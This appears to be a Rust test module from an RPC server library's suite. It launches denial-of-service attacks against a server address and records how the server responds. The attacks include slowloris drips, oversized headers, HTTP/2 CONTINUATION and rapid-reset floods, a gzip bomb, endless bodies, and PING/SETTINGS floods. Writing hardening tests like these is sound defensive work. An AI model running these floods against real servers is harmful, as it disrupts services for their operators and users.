//! The attacks: each says what the server did.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use ezrpc_tests::frames::{self, END_HEADERS, END_STREAM, PREFACE, Raw, frame, kind};
use ezrpc_tests::grpc::{self, flagged, head};
use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::io::AsyncReadExt;
use tokio::task::JoinSet;

const SAY: &str = "/e2e.Echo/Say";
const JSON_HEAD: &str =
    "POST /e2e.Echo/Say HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";

pub(crate) async fn head_drip(addr: SocketAddr) -> String {
    drip(addr, b"POST /e2e.Echo/Say HTTP/1.1\r\nx-drip: ", b"x").await
}

pub(crate) async fn preface_drip(addr: SocketAddr) -> String {
    drip(addr, &PREFACE[..4], &PREFACE[4..5]).await
}

pub(crate) async fn body_drip(addr: SocketAddr) -> String {
    let head = format!("{JSON_HEAD}content-length: 1000\r\n\r\n{{");
    drip(addr, head.as_bytes(), b" ").await
}

/// A thousand connections that say `first`, and then a byte a second until the server has enough.
async fn drip(addr: SocketAddr, first: &[u8], byte: &[u8]) -> String {
    let start = Instant::now();
    let mut connections = JoinSet::new();
    for _ in 0..1000 {
        let (first, byte) = (first.to_vec(), byte.to_vec());
        connections.spawn(async move {
            let mut raw = Raw::connect(addr).await;
            raw.send(&first).await;
            let mut answer = Vec::new();
            loop {
                let second = Duration::from_secs(1);
                let read = tokio::time::timeout(second, raw.0.read_buf(&mut answer)).await;
                match read {
                    Err(_) if raw.send(&byte).await => {}
                    Ok(Ok(1..)) => {}
                    _ => return said(&answer),
                }
            }
        });
    }
    let outcomes = connections.join_all().await;
    format!(
        "{} after {} s",
        summary(outcomes),
        start.elapsed().as_secs()
    )
}

pub(crate) async fn large_heads(addr: SocketAddr) -> String {
    let head = format!("GET / HTTP/1.1\r\nx-large: {}", "x".repeat(15 << 10));
    drip(addr, head.as_bytes(), b"").await
}

pub(crate) async fn huge_heads(addr: SocketAddr) -> String {
    let head = format!(
        "GET / HTTP/1.1\r\nhost: x\r\nx-huge: {}",
        "x".repeat(1 << 20)
    );
    drip(addr, head.as_bytes(), b"x").await
}

/// The status of an answer of HTTP/1.1, or that there is none.
fn said(answer: &[u8]) -> String {
    let text = String::from_utf8_lossy(answer);
    let status = text
        .strip_prefix("HTTP/1.1 ")
        .and_then(|rest| rest.get(..3));
    status.map_or("closed".to_owned(), |status| format!("{status}, closed"))
}

fn summary(outcomes: Vec<String>) -> String {
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for outcome in outcomes {
        *counts.entry(outcome).or_default() += 1;
    }
    let mut parts: Vec<(usize, String)> = counts.into_iter().map(|(what, n)| (n, what)).collect();
    parts.sort_by(|a, b| b.cmp(a));
    let parts = parts.iter().map(|(count, what)| match count {
        1 => what.clone(),
        _ => format!("{count} times {what}"),
    });
    parts.collect::<Vec<_>>().join("; ")
}

/// Sends until the server takes no more: how much it took.
async fn flood(raw: &mut Raw, batch: &[u8], times: usize) -> (usize, &'static str) {
    for sent in 0..times {
        match tokio::time::timeout(Duration::from_secs(2), raw.send(batch)).await {
            Ok(true) => {}
            Ok(false) => return (sent, "the connection was closed"),
            Err(_) => return (sent, "the server read no more"),
        }
    }
    (times, "all was taken")
}

pub(crate) async fn continuation(addr: SocketAddr) -> String {
    let mut raw = Raw::http2(addr).await;
    raw.send(&frame(kind::HEADERS, 0, 1, &frames::request(SAY)))
        .await;
    let more = frame(
        kind::CONTINUATION,
        0,
        1,
        &frames::field("x-more", &"x".repeat(100)),
    );
    let (sent, how) = flood(&mut raw, &more, 10_000_000).await;
    format!("{how} after {} KiB", sent * more.len() / 1024)
}

pub(crate) async fn rapid_reset(addr: SocketAddr) -> String {
    let mut raw = Raw::http2(addr).await;
    let block = frames::request(SAY);
    for stream in (1..200_001_u32).step_by(2) {
        let mut both = frame(kind::HEADERS, END_HEADERS, stream, &block);
        both.extend(frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        if !raw.send(&both).await {
            return format!("the connection was closed after {} streams", stream / 2);
        }
    }
    match raw.goaway().await {
        Some(reason) => format!("GOAWAY, reason {reason}"),
        None => "the connection was closed".to_owned(),
    }
}

/// A message of 256 MiB of zeros, compressed.
fn bomb() -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    let zeros = vec![0; 1 << 20];
    for _ in 0..256 {
        encoder.write_all(&zeros).unwrap();
    }
    flagged(1, &encoder.finish().unwrap())
}

pub(crate) async fn gzip_bombs(addr: SocketAddr) -> String {
    let bomb = bytes::Bytes::from(bomb());
    let mut calls = JoinSet::new();
    for _ in 0..100 {
        let bomb = bomb.clone();
        calls.spawn(async move {
            let request = head(SAY).header("grpc-encoding", "gzip");
            let answer = grpc::call(addr, &request, bomb).await;
            format!("grpc-status {}", grpc::status(&answer).0)
        });
    }
    summary(calls.join_all().await)
}

pub(crate) async fn endless_http1(addr: SocketAddr) -> String {
    let mut raw = Raw::connect(addr).await;
    raw.send(format!("{JSON_HEAD}transfer-encoding: chunked\r\n\r\n").as_bytes())
        .await;
    let chunk = format!("10000\r\n{}\r\n", " ".repeat(1 << 16));
    let (sent, how) = flood(&mut raw, chunk.as_bytes(), 100_000).await;
    let answer = raw.closed().await;
    format!("{}: {how} after {} KiB", said(&answer), sent * 64)
}

pub(crate) async fn endless_http2(addr: SocketAddr) -> String {
    let mut raw = Raw::http2(addr).await;
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", SAY),
        (":authority", "x"),
    ];
    let mut block: Vec<u8> = fields
        .iter()
        .flat_map(|(n, v)| frames::field(n, v))
        .collect();
    block.extend(frames::field("content-type", "application/json"));
    raw.send(&frame(kind::HEADERS, END_HEADERS, 1, &block))
        .await;
    let data = frame(kind::DATA, 0, 1, &vec![b' '; 1 << 14]);
    // Without regard to the window.
    let (sent, how) = flood(&mut raw, &data, 1000).await;
    while let Ok(Some(frame)) = tokio::time::timeout(Duration::from_secs(2), raw.next()).await {
        match frame.kind {
            kind::GOAWAY => return format!("GOAWAY after {} KiB", sent * 16),
            kind::RST_STREAM => {
                return format!(
                    "answered and reset; {how} of {} KiB, and thrown away",
                    sent * 16
                );
            }
            _ => {}
        }
    }
    format!("{how} after {} KiB", sent * 16)
}

pub(crate) async fn long_prefix(addr: SocketAddr) -> String {
    let answer = grpc::call(addr, &head(SAY), vec![0, 255, 255, 255, 255]).await;
    format!("grpc-status {}", grpc::status(&answer).0)
}

/// Each asks for 20,000 replies and reads none.
pub(crate) async fn unread_replies(addr: SocketAddr) -> String {
    let mut raw = Raw::connect(addr).await;
    // A window of nothing.
    let settings = frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    raw.send(&[PREFACE, &settings].concat()).await;
    // The server opens its window for requests.
    while raw
        .next()
        .await
        .is_some_and(|frame| frame.kind != kind::WINDOW_UPDATE)
    {}
    let block = frames::request("/e2e.Echo/Split");
    let request = grpc::say(&"x ".repeat(8000));
    for stream in (1..2001).step_by(2) {
        raw.send(&frame(kind::HEADERS, END_HEADERS, stream, &block))
            .await;
        raw.send(&frame(kind::DATA, END_STREAM, stream, &request))
            .await;
    }
    let mut kinds: BTreeMap<u8, usize> = BTreeMap::new();
    // Until the calls' time is over, and everything is said.
    while let Ok(Some(frame)) = tokio::time::timeout(Duration::from_secs(8), raw.next()).await {
        *kinds.entry(frame.kind).or_default() += 1;
        if frame.kind == kind::GOAWAY {
            return format!("GOAWAY: {:?}", &frame.payload[..]);
        }
    }
    let count = |kind| kinds.get(&kind).copied().unwrap_or_default();
    let (heads, resets) = (count(kind::HEADERS), count(kind::RST_STREAM));
    format!("{heads} heads were sent, then nothing more; {resets} resets")
}

pub(crate) async fn pings(addr: SocketAddr) -> String {
    unanswered(addr, &frame(kind::PING, 0, 0, &[0; 8])).await
}

pub(crate) async fn settings(addr: SocketAddr) -> String {
    unanswered(addr, &frame(kind::SETTINGS, 0, 0, &[])).await
}

async fn unanswered(addr: SocketAddr, one: &[u8]) -> String {
    let mut raw = Raw::http2(addr).await;
    let (sent, how) = flood(&mut raw, &one.repeat(1000), 1000).await;
    format!("{how} after {},000", sent)
}

pub(crate) async fn empty_data(addr: SocketAddr) -> String {
    let mut raw = Raw::http2(addr).await;
    raw.send(&frame(
        kind::HEADERS,
        END_HEADERS,
        1,
        &frames::request("/e2e.Echo/Join"),
    ))
    .await;
    let (sent, how) = flood(&mut raw, &frame(kind::DATA, 0, 1, &[]), 100_000).await;
    match raw.goaway().await {
        Some(reason) => format!("GOAWAY, reason {reason}"),
        None => format!("{how} after {sent}"),
    }
}
